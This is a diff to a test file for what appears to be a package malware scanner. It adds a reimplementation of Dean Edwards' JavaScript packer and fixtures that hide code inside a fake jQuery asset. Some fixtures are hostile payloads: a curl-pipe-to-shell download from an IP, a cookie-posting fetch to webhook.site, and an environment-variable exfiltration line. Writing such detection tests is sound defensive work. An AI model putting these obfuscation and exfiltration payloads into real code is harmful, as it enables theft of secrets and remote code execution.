@@ -10,6 +10,8 @@ beside its malicious twin that must stay high:
 
 from __future__ import annotations
 
+import re
+
 from app.core.archive import open_artifact
 from app.core.capabilities.scan import scan_artifact
 from tests.core.archive.fixtures import make_wheel
@@ -115,4 +117,79 @@ def test_a_bare_catcher_host_alone_that_code_builds_a_url_from_stays_high(tmp_pa
         b"urllib.request.urlopen('https://' + HOST + '/2f9b7a5c', data=repr(dict(os.environ)).encode())\n"
     )
     res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
+    assert res.risk.level in HIGH
+
+
+# ------------------------------------------------------- Dean Edwards' packer, unpacked
+
+_PACKER = (
+    "eval(function(p,a,c,k,e,r){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
+    "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)r[e(c)]"
+    "=k[c]||e(c);k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)"
+    "if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
+)
+
+
+def _base62(n: int) -> str:
+    digits = "0123456789abcdefghijklmnopqrstuvwxyz" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
+    return ("" if n < 62 else _base62(n // 62)) + digits[n % 62]
+
+
+def pack(code: str) -> bytes:
+    """What the packer writes for ``code``: every word replaced by its base-62 index into a
+    word list, and the lines that put the words back and eval the result."""
+    words: list[str] = []
+    for w in re.findall(r"\b\w+\b", code):
+        if w not in words:
+            words.append(w)
+    payload = re.sub(r"\b\w+\b", lambda m: _base62(words.index(m.group(0))), code)
+    payload = payload.replace("\\", "\\\\").replace("'", "\\'")
+    call = f"{_PACKER}('{payload}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))\n"
+    return call.encode()
+
+
+TREE_PLUGIN = (
+    ";(function($){$.extend($.fn,{swapClass:function(b,c){var a=this.filter('.'+b);"
+    "this.filter('.'+c).removeClass(c).addClass(b);a.removeClass(b).addClass(c);return this},"
+    'hoverClass:function(a){a=a||"hover";return this.hover(function(){$(this).addClass(a)},'
+    "function(){$(this).removeClass(a)})}})})(jQuery);"
+)
+
+
+def test_a_packed_jquery_plugin_that_does_nothing_is_no_decoded_payload(tmp_path):
+    """A docs theme vendors a jQuery plugin shrunk by Dean Edwards' packer: its eval runs
+    text rebuilt from a word list. Unpacked, the plugin only toggles CSS classes."""
+    res = _wheel(
+        tmp_path,
+        {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(TREE_PLUGIN)},
+    )
+    packed = [h for h in res.findings if h.rule == "js.packed_exec"]
+    assert packed and all(h.severity not in HIGH for h in packed)
+    assert not [h for h in res.findings if h.capability == "exec.decode_then_exec"]
+    assert res.risk.level not in HIGH
+
+
+def test_packed_code_that_starts_a_shell_download_stays_high(tmp_path):
+    """The twin: the same packer around code that starts a downloaded script."""
+    dropper = (
+        "var cp=require('child_process');"
+        "cp.exec('curl -s http://203.0.113.7/stage2.sh | sh',function(){});"
+    )
+    res = _wheel(
+        tmp_path, {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(dropper)}
+    )
+    assert [h for h in res.findings if h.capability == "exec.decode_then_exec"]
+    assert res.risk.level in HIGH
+
+
+def test_packed_code_that_sends_cookies_out_stays_high(tmp_path):
+    """The twin in a browser: packed code posting the page's cookies to a request catcher."""
+    stealer = (
+        "(function(){var d=document.cookie;"
+        "fetch('https://webhook.site/2f9b7a5c-1d2e-4f3a-8b9c-0d1e2f3a4b5c',"
+        "{method:'POST',body:d})})();"
+    )
+    res = _wheel(
+        tmp_path, {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(stealer)}
+    )
     assert res.risk.level in HIGH
